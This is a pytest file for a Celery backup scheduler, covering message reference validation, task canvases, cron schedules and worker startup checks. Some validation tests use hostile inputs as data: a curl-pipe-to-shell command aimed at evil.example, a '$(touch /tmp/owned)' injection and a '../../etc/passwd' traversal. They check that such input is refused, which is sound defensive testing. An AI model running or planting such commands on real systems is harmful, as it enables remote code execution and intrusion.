"""What a message may carry, the canvas a run is built into, beat's schedule and the start checks.

- ``parse_reference``: a step message is exactly five references; anything else is refused, and a
  refusal names fields, never their values.
- ``build_run``: immutable signatures carrying only references, Celery time limits from the
  config, every step on the job's queue; empty phases left out.
- ``build_schedule``: one entry per job from its cron fields, plus the watchdog; Celery's own due
  check fires it when its time comes.
- ``check_worker``: prefork only, and a visibility timeout above the longest hard time limit.
"""

from __future__ import annotations

import os
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import yaml
from celery.canvas import Signature, _chain, _chord, group
from celery.concurrency import get_implementation
from celery.schedules import crontab
from kombu.utils.json import dumps as kombu_json_dumps

from config.celery_config import WATCHDOG_INTERVAL_SECONDS
from config.jobs import Config, Job, parse_config
from config.limits import Limits
from tasks import context
from tasks.pipeline import (
    FINALIZE_SOFT_LIMIT_SECONDS,
    build_run,
    longest_hard_limit,
    phase_canvas,
)
from tasks.references import REFERENCE_FIELDS, Refused, StepRef, parse_reference
from tasks.start_task import parse_start
from workers.beat import build_schedule, cron_schedule
from workers.checks import StartupRefused, check_worker, pool_name, refuse_bad_settings

RUN_ID = "20261203T031500Z-4f9c2a1b"
DIGEST = "ab" * 32
HOOK_PHASES = ("pre", "post")
LIMITS = Limits()
MARGIN = LIMITS.hard_limit_margin


def valid(**changes: Any) -> dict[str, Any]:
    kwargs: dict[str, Any] = {
        "run_id": RUN_ID,
        "job_id": "app-db",
        "phase": "pre",
        "index": 0,
        "digest": DIGEST,
    }
    kwargs.update(changes)
    return kwargs


def refusal(args: tuple[Any, ...], kwargs: dict[str, Any], phases=HOOK_PHASES) -> str:
    with pytest.raises(Refused) as caught:
        parse_reference(args, kwargs, phases)
    return str(caught.value)


# --------------------------------------------------------------------------- parse_reference


def test_a_valid_reference_parses() -> None:
    ref = parse_reference((), valid(phase="post", index=3), HOOK_PHASES)
    assert ref == StepRef(RUN_ID, "app-db", "post", 3, DIGEST)
    assert ref.step == "post.3"
    assert ref.as_kwargs() == valid(phase="post", index=3)
    assert tuple(ref.as_kwargs()) == REFERENCE_FIELDS


@pytest.mark.parametrize(("phase", "step"), [("dump", "dump"), ("finalize", "finalize")])
def test_dump_and_finalize_step_names(phase: str, step: str) -> None:
    ref = parse_reference((), valid(phase=phase), (phase,))
    assert ref.step == step


def test_positional_arguments_are_refused() -> None:
    reason = refusal(("touch /tmp/owned",), valid())
    assert "positional" in reason
    assert "/tmp/owned" not in reason
    # Even a positional copy of valid references is refused: steps take keywords only.
    assert "positional" in refusal(tuple(valid().values()), {})


def test_an_extra_command_field_is_named_but_not_echoed() -> None:
    secret = "curl https://evil.example/x | sh # SECRET-PAYLOAD"
    reason = refusal((), valid(command=secret))
    assert "command" in reason
    assert "SECRET-PAYLOAD" not in reason and "evil" not in reason


def test_every_extra_field_is_named() -> None:
    reason = refusal((), valid(command="x", env={"A": "b"}, timeout=1))
    for name in ("command", "env", "timeout"):
        assert name in reason


@pytest.mark.parametrize("missing", REFERENCE_FIELDS)
def test_a_missing_field_is_named(missing: str) -> None:
    kwargs = valid()
    del kwargs[missing]
    reason = refusal((), kwargs)
    assert "lacks" in reason and missing in reason


def test_an_empty_message_names_every_field() -> None:
    reason = refusal((), {})
    for name in REFERENCE_FIELDS:
        assert name in reason


@pytest.mark.parametrize(
    ("field", "value", "words"),
    [
        ("run_id", 12345, "run_id"),
        ("run_id", "../../etc/passwd", "run_id"),
        ("run_id", "20261203T031500Z-4F9C2A1B", "run_id"),
        ("job_id", None, "job_id"),
        ("job_id", "App-DB", "job_id"),
        ("job_id", "$(touch /tmp/owned)", "job_id"),
        ("job_id", "a" * 65, "job_id"),
        ("phase", "dump", "phase"),
        ("phase", "PRE", "phase"),
        ("phase", ["pre"], "phase"),
        ("index", "0", "index"),
        ("index", 0.0, "index"),
        ("index", -1, "index"),
        ("index", 1000, "index"),
        ("index", None, "index"),
        ("index", True, "index"),
        ("index", False, "index"),
        ("digest", "AB" * 32, "digest"),
        ("digest", "ab" * 31 + "a", "digest"),
        ("digest", "ab" * 33, "digest"),
        ("digest", "zz" * 32, "digest"),
        ("digest", 0, "digest"),
        ("digest", None, "digest"),
    ],
)
def test_bad_values_are_refused_without_echo(field: str, value: Any, words: str) -> None:
    reason = refusal((), valid(**{field: value}))
    assert words in reason
    if isinstance(value, str) and len(value) > 3:
        assert value not in reason


def test_phase_not_taken_by_this_task_is_refused() -> None:
    assert "phase" in refusal((), valid(phase="pre"), ("dump",))
    assert "phase" in refusal((), valid(phase="finalize"), HOOK_PHASES)


@pytest.mark.parametrize(
    ("field", "value"),
    [("run_id", RUN_ID + "\n"), ("job_id", "app-db\n"), ("digest", DIGEST + "\n")],
)
def test_a_trailing_newline_is_refused(field: str, value: str) -> None:
    refusal((), valid(**{field: value}))


# --------------------------------------------------------------------------- the canvas


def config_of(*jobs: dict[str, Any]) -> Config:
    return parse_config(
        {
            "storage": {"type": "local", "path": "./var/backups"},
            "encryption": "none",
            "jobs": list(jobs),
        },
        limits=LIMITS,
    )


def job_data(
    job_id: str = "app-db",
    pre: int = 2,
    post: int = 2,
    **fields: Any,
) -> dict[str, Any]:
    data: dict[str, Any] = {
        "id": job_id,
        "schedule": "0 3 * * *",
        "queue": "host-b",
        "target": {"type": "sqlite", "path": "/srv/app.db"},
        "timeout": "2h",
        "pre_hooks": [{"command": f"echo pre {i}", "timeout": f"{10 + i}s"} for i in range(pre)],
        "post_hooks": [{"command": f"echo post {i}", "timeout": f"{20 + i}s"} for i in range(post)],
    }
    data.update(fields)
    return data


def a_job(**fields: Any) -> tuple[Job, str]:
    cfg = config_of(job_data(**fields))
    job = cfg.jobs[0]
    return job, cfg.job_digest(job.id)


def leaves(sig: Any) -> Iterator[Signature]:
    """The task signatures of a canvas, in the order they run (a group's in config order)."""
    if isinstance(sig, _chord):
        yield from leaves(sig.tasks)
        yield from leaves(sig.body)
    elif isinstance(sig, _chain | group):
        for task in sig.tasks:
            yield from leaves(task)
    elif isinstance(sig, list | tuple):  # a chord's header, as Celery hands it out
        for task in sig:
            yield from leaves(task)
    else:
        yield sig


def step_of(sig: Signature) -> str:
    kwargs = sig.kwargs
    phase = kwargs["phase"]
    return f"{phase}.{kwargs['index']}" if phase in HOOK_PHASES else phase


def built(**fields: Any) -> tuple[Job, str, list[Signature]]:
    job, digest = a_job(**fields)
    return job, digest, list(leaves(build_run(job, RUN_ID, digest, LIMITS)))


def test_every_step_is_in_the_canvas_in_order() -> None:
    _, _, sigs = built()
    assert [step_of(s) for s in sigs] == ["pre.0", "pre.1", "dump", "post.0", "post.1", "finalize"]
    assert [s.task for s in sigs] == [
        "backupy.hook",
        "backupy.hook",
        "backupy.dump",
        "backupy.hook",
        "backupy.hook",
        "backupy.finalize",
    ]


def test_signatures_are_immutable_and_carry_only_the_five_references() -> None:
    job, digest, sigs = built()
    for sig in sigs:
        assert sig.immutable, sig
        assert tuple(sig.args) == ()
        assert set(sig.kwargs) == set(REFERENCE_FIELDS), sig.kwargs
        assert sig.kwargs["run_id"] == RUN_ID
        assert sig.kwargs["job_id"] == job.id
        assert sig.kwargs["digest"] == digest
        # Nothing of the hook itself rides along: not its command, not its env.
        assert "echo" not in repr(sig.kwargs)
        # And each message parses as its task will parse it.
        phases = HOOK_PHASES if sig.task == "backupy.hook" else (sig.kwargs["phase"],)
        parse_reference((), sig.kwargs, phases)


def test_hook_time_limits_come_from_each_hooks_timeout() -> None:
    job, _, sigs = built()
    hooks = {f"pre.{i}": h for i, h in enumerate(job.pre_hooks)}
    hooks |= {f"post.{i}": h for i, h in enumerate(job.post_hooks)}
    seen = 0
    for sig in sigs:
        if sig.task != "backupy.hook":
            continue
        timeout = hooks[step_of(sig)].timeout
        assert sig.options["soft_time_limit"] == timeout
        assert sig.options["time_limit"] == timeout + MARGIN
        seen += 1
    assert seen == 4
    assert {s.options["soft_time_limit"] for s in sigs if s.task == "backupy.hook"} == {
        10,
        11,
        20,
        21,
    }


def test_dump_time_limits_come_from_the_job_timeout() -> None:
    job, _, sigs = built(timeout="90m")
    (dump,) = [s for s in sigs if s.task == "backupy.dump"]
    assert dump.options["soft_time_limit"] == job.timeout == 5400
    assert dump.options["time_limit"] == 5400 + MARGIN


def test_finalize_has_its_own_short_limits() -> None:
    _, _, sigs = built()
    finalize = sigs[-1]
    assert finalize.options["soft_time_limit"] == FINALIZE_SOFT_LIMIT_SECONDS
    assert finalize.options["time_limit"] == FINALIZE_SOFT_LIMIT_SECONDS + MARGIN


def test_every_step_goes_to_the_jobs_queue() -> None:
    _, _, sigs = built(queue="db-host-7")
    assert {s.options["queue"] for s in sigs} == {"db-host-7"}


def test_hook_timeout_above_this_hosts_cap_is_capped_in_the_limits() -> None:
    job, digest = a_job(pre=1, post=0, pre_hooks=[{"command": "x", "timeout": "10m"}])
    strict = Limits(hook_timeout_max=60)
    sigs = list(leaves(build_run(job, RUN_ID, digest, strict)))
    assert sigs[0].options["soft_time_limit"] == 60
    assert sigs[0].options["time_limit"] == 60 + strict.hard_limit_margin


def test_empty_pre_phase_is_left_out() -> None:
    _, _, sigs = built(pre=0)
    assert [step_of(s) for s in sigs] == ["dump", "post.0", "post.1", "finalize"]


def test_empty_post_phase_is_left_out() -> None:
    _, _, sigs = built(post=0)
    assert [step_of(s) for s in sigs] == ["pre.0", "pre.1", "dump", "finalize"]


def test_no_hooks_at_all_is_dump_then_finalize() -> None:
    job, digest = a_job(pre=0, post=0)
    canvas = build_run(job, RUN_ID, digest, LIMITS)
    assert isinstance(canvas, _chain)
    assert [step_of(s) for s in canvas.tasks] == ["dump", "finalize"]
    assert phase_canvas(job, RUN_ID, digest, "pre", LIMITS) is None
    assert phase_canvas(job, RUN_ID, digest, "post", LIMITS) is None


def test_one_hook_phases() -> None:
    job, digest, sigs = built(pre=1, post=1)
    assert [step_of(s) for s in sigs] == ["pre.0", "dump", "post.0", "finalize"]
    assert all(s.immutable for s in sigs)
    one = phase_canvas(job, RUN_ID, digest, "pre", LIMITS)
    assert one is not None
    assert [step_of(s) for s in leaves(one)] == ["pre.0"]


def test_parallel_phase_is_a_group() -> None:
    job, digest = a_job(pre=3)
    phase = phase_canvas(job, RUN_ID, digest, "pre", LIMITS)
    assert isinstance(phase, group)
    assert [step_of(s) for s in phase.tasks] == ["pre.0", "pre.1", "pre.2"]


def test_sequential_phase_is_a_chain_in_config_order() -> None:
    job, digest = a_job(pre=3, post=2, hook_order="sequential")
    pre = phase_canvas(job, RUN_ID, digest, "pre", LIMITS)
    post = phase_canvas(job, RUN_ID, digest, "post", LIMITS)
    assert isinstance(pre, _chain) and isinstance(post, _chain)
    assert [step_of(s) for s in pre.tasks] == ["pre.0", "pre.1", "pre.2"]
    assert [step_of(s) for s in post.tasks] == ["post.0", "post.1"]
    canvas = build_run(job, RUN_ID, digest, LIMITS)
    assert not any(isinstance(s, group | _chord) for s in canvas.tasks)
    assert [step_of(s) for s in leaves(canvas)] == [
        "pre.0",
        "pre.1",
        "pre.2",
        "dump",
        "post.0",
        "post.1",
        "finalize",
    ]


def test_the_canvas_serialises_as_json() -> None:
    """The message is JSON (the only accepted content): nothing in the canvas may need pickle."""
    job, digest = a_job()
    text = kombu_json_dumps(build_run(job, RUN_ID, digest, LIMITS))
    assert "echo" not in text


def test_longest_hard_limit() -> None:
    dump_long = config_of(job_data(timeout="2h")).jobs[0]
    assert longest_hard_limit([dump_long], LIMITS) == 7200 + MARGIN
    hook_long = config_of(
        job_data(timeout="30s", pre=0, post=1, post_hooks=[{"command": "x", "timeout": "10m"}])
    ).jobs[0]
    assert longest_hard_limit([hook_long], LIMITS) == 600 + MARGIN
    assert longest_hard_limit([dump_long, hook_long], LIMITS) == 7200 + MARGIN
    short = config_of(job_data(timeout="10s", pre=1, post=0)).jobs[0]
    assert longest_hard_limit([short], LIMITS) == FINALIZE_SOFT_LIMIT_SECONDS + MARGIN
    assert longest_hard_limit([], LIMITS) == FINALIZE_SOFT_LIMIT_SECONDS + MARGIN


def test_longest_hard_limit_matches_the_canvas() -> None:
    job, digest = a_job(timeout="20s", post_hooks=[{"command": "x", "timeout": "14m"}])
    sigs = list(leaves(build_run(job, RUN_ID, digest, LIMITS)))
    assert longest_hard_limit([job], LIMITS) == max(s.options["time_limit"] for s in sigs)


# --------------------------------------------------------------------------- beat's schedule


def two_jobs() -> Config:
    return config_of(
        job_data("app-db", schedule="*/15 3 * * 1-5", queue="host-a"),
        job_data("logs", schedule="0 4 1 * *", queue="host-b"),
    )


def test_one_schedule_entry_per_job_plus_the_watchdog() -> None:
    cfg = two_jobs()
    schedule = build_schedule(cfg, "ctl-q")
    assert set(schedule) == {"backupy-watchdog", "backupy-job-app-db", "backupy-job-logs"}
    watchdog = schedule["backupy-watchdog"]
    assert watchdog["task"] == "backupy.watchdog"
    assert watchdog["schedule"] == WATCHDOG_INTERVAL_SECONDS
    assert watchdog["options"]["queue"] == "ctl-q"


def test_job_entries_use_the_cron_fields_the_queue_and_the_digest() -> None:
    cfg = two_jobs()
    schedule = build_schedule(cfg, "ctl-q")
    entry = schedule["backupy-job-app-db"]
    assert entry["task"] == "backupy.start_run"
    assert entry["schedule"] == crontab(
        minute="*/15", hour="3", day_of_month="*", month_of_year="*", day_of_week="1-5"
    )
    assert entry["schedule"].minute == {0, 15, 30, 45}
    assert entry["schedule"].hour == {3}
    assert entry["schedule"].day_of_week == {1, 2, 3, 4, 5}
    assert entry["kwargs"] == {
        "job_id": "app-db",
        "trigger": "beat",
        "digest": cfg.job_digest("app-db"),
    }
    assert entry["options"] == {"queue": "host-a"}
    logs = schedule["backupy-job-logs"]
    assert logs["schedule"] == crontab(minute="0", hour="4", day_of_month="1")
    assert logs["options"] == {"queue": "host-b"}
    assert logs["kwargs"]["digest"] == cfg.job_digest("logs") != entry["kwargs"]["digest"]


def test_beat_kwargs_pass_start_runs_own_check() -> None:
    for entry in build_schedule(two_jobs(), "ctl-q").values():
        if entry["task"] == "backupy.start_run":
            job_id, run_id, trigger, digest = parse_start((), dict(entry["kwargs"]))
            assert (job_id, run_id, trigger) == (entry["kwargs"]["job_id"], None, "beat")
            assert digest == entry["kwargs"]["digest"]


def due_at(expression: str, last_run_at: datetime, now: datetime) -> bool:
    """Celery's own due check of the schedule beat builds, at a chosen "now"."""
    schedule = cron_schedule(expression)
    schedule.nowfun = lambda: now
    is_due, _next = schedule.is_due(last_run_at)
    return bool(is_due)


def test_the_scheduler_finds_a_daily_job_due_when_its_time_comes() -> None:
    at = datetime(2026, 12, 3, 3, 0, 0, tzinfo=UTC)
    last = at - timedelta(minutes=2)
    assert due_at("0 3 * * *", last, at + timedelta(seconds=1))
    assert not due_at("0 3 * * *", last, at - timedelta(seconds=30))
    # Once run at 03:00 it is not due again until tomorrow.
    assert not due_at("0 3 * * *", at, at + timedelta(hours=23))
    assert due_at("0 3 * * *", at, at + timedelta(days=1, seconds=1))


def test_the_scheduler_finds_an_every_minute_job_due_each_minute() -> None:
    at = datetime(2026, 12, 3, 3, 17, 0, tzinfo=UTC)
    assert due_at("* * * * *", at - timedelta(minutes=1, seconds=5), at + timedelta(seconds=1))
    assert not due_at("* * * * *", at + timedelta(seconds=1), at + timedelta(seconds=30))


def test_schedules_are_utc() -> None:
    # 03:00 UTC is 04:00 in Paris in winter: the job is due at 03:00 UTC, not 03:00 local.
    at = datetime(2026, 12, 3, 3, 0, 0, tzinfo=UTC)
    assert due_at("0 3 * * *", at - timedelta(hours=2), at + timedelta(seconds=1))
    assert not due_at("0 3 * * *", at - timedelta(minutes=5), at - timedelta(minutes=1))


def test_the_watchdog_interval_schedule_is_due_after_its_interval() -> None:
    from celery.schedules import schedule as interval

    every = interval(timedelta(seconds=WATCHDOG_INTERVAL_SECONDS))
    now = datetime(2026, 12, 3, 3, 0, 0, tzinfo=UTC)
    every.nowfun = lambda: now
    assert every.is_due(now - timedelta(seconds=WATCHDOG_INTERVAL_SECONDS + 1)).is_due
    assert not every.is_due(now - timedelta(seconds=5)).is_due


# --------------------------------------------------------------------------- worker start checks


@pytest.mark.parametrize(
    "pool", ["threads", "solo", "eventlet", "gevent", "custom", get_implementation("threads")]
)
def test_check_worker_refuses_other_pools(pool: Any) -> None:
    with pytest.raises(StartupRefused) as caught:
        check_worker(pool)
    assert "prefork" in str(caught.value)


def test_pool_names() -> None:
    assert pool_name(None) == "prefork"
    assert pool_name("prefork") == "prefork"
    assert pool_name(get_implementation("prefork")) == "prefork"
    assert pool_name(get_implementation("solo")) == "celery.concurrency.solo"


def test_the_start_signal_exits_2_on_a_refused_pool(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as caught:
        refuse_bad_settings(options={"pool": "solo"})
    assert caught.value.code == 2
    assert "refusing to start" in capsys.readouterr().err


@pytest.fixture
def worker_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A clean BACKUPY_* environment pointing at a config in tmp_path; the context reset around."""
    for name in list(os.environ):
        if name.startswith("BACKUPY_"):
            monkeypatch.delenv(name)
    path = tmp_path / "jobs.yaml"
    monkeypatch.setenv("BACKUPY_CONFIG", str(path))
    context.reset()
    yield path
    context.reset()


def write_config(path: Path, *jobs: dict[str, Any]) -> None:
    document = {
        "storage": {"type": "local", "path": str(path.parent / "backups")},
        "encryption": "none",
        "jobs": list(jobs),
    }
    path.write_text(yaml.safe_dump(document))


def test_check_worker_accepts_prefork_with_the_defaults(worker_env: Path) -> None:
    write_config(worker_env, job_data(timeout="2h"))
    check_worker("prefork")
    check_worker(None)
    check_worker(get_implementation("prefork"))


def test_check_worker_refuses_a_visibility_timeout_at_the_hard_limit(
    worker_env: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write_config(worker_env, job_data(timeout="2h"))
    monkeypatch.setenv("BACKUPY_VISIBILITY_TIMEOUT", str(7200 + MARGIN))
    context.reset()
    with pytest.raises(StartupRefused) as caught:
        check_worker("prefork")
    message = str(caught.value)
    assert "BACKUPY_VISIBILITY_TIMEOUT" in message and "7205" in message


def test_check_worker_refuses_a_visibility_timeout_below_the_hard_limit(
    worker_env: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write_config(worker_env, job_data(timeout="10s", post_hooks=[{"command": "x", "timeout": 600}]))
    monkeypatch.setenv("BACKUPY_VISIBILITY_TIMEOUT", "5m")
    context.reset()
    with pytest.raises(StartupRefused):
        check_worker("prefork")


def test_check_worker_accepts_a_visibility_timeout_above_the_hard_limit(
    worker_env: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write_config(worker_env, job_data(timeout="2h"))
    monkeypatch.setenv("BACKUPY_VISIBILITY_TIMEOUT", str(7200 + MARGIN + 1))
    context.reset()
    check_worker("prefork")


def test_default_visibility_timeout_refuses_a_six_hour_dump(worker_env: Path) -> None:
    write_config(worker_env, job_data(timeout="6h"))
    with pytest.raises(StartupRefused):
        check_worker("prefork")


def test_check_worker_refuses_an_invalid_config(worker_env: Path) -> None:
    write_config(worker_env, job_data(schedule="not a cron"))
    with pytest.raises(StartupRefused) as caught:
        check_worker("prefork")
    assert "invalid config" in str(caught.value)
